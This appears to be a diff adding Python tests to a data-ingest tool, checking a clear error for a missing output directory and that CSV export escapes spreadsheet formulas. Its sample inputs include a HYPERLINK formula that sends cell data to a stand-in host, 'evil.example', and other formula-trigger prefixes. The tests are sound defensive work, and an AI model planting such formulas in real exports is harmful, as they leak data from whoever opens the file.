@@ -40,3 +40,45 @@ def test_export_of_a_missing_store_fails_clearly(tmp_path):
     out = subprocess.run([sys.executable, "-m", "ingest", "export", "tubes", "--data", str(tmp_path / "none")],
                          capture_output=True, text=True, timeout=60)
     assert out.returncode == 1 and "cannot read the store" in out.stderr
+
+
+def test_export_to_a_missing_directory_fails_clearly(tmp_path):
+    out_path = tmp_path / "no" / "such" / "x.csv"
+    out = subprocess.run([sys.executable, "-m", "ingest", "export", "tubes", "--data", str(tmp_path),
+                          "--out", str(out_path)], capture_output=True, text=True, timeout=60)
+    assert out.returncode == 1, out.stderr
+    assert out.stderr == f"ingest: cannot write --out {out_path}: No such file or directory\n", out.stderr
+
+
+def _unescape(cell: str) -> str:
+    """The documented way back to the text a client sent."""
+    return cell.removeprefix("'")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&C2,"click")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1",
+            "'already quoted", 'a,"b"\nc', "S-plain"]
+
+
+def test_export_neutralises_spreadsheet_formulas(server_factory):
+    """Client text that a spreadsheet would run gets a leading "'"; the CSV
+    still round-trips, and numbers stay numbers."""
+    srv = server_factory()
+    tubes = {}
+    for site in FORMULAS:
+        tube = fresh_tube()
+        tubes[tube] = site
+        ev = event(tube, site_id=site, event_id=f"-{tube}")  # ids may begin with "-" too
+        status, _, body = srv.post(ev)
+        assert status == 201, body
+    for what in ("bindings", "tubes"):
+        rows, _ = run_export(srv.data, what)
+        rows = [r for r in rows if r["tube"] in tubes]
+        assert len(rows) == len(FORMULAS)
+        for row in rows:
+            for column, cell in row.items():
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+            assert _unescape(row["site_id"]) == tubes[row["tube"]]
+        if what == "bindings":
+            for row in rows:
+                assert row["event_id"] == f"'-{row['tube']}"
+                assert row["seq"].isdigit() and row["scanned_at"].isdigit() and row["position"] == "1"
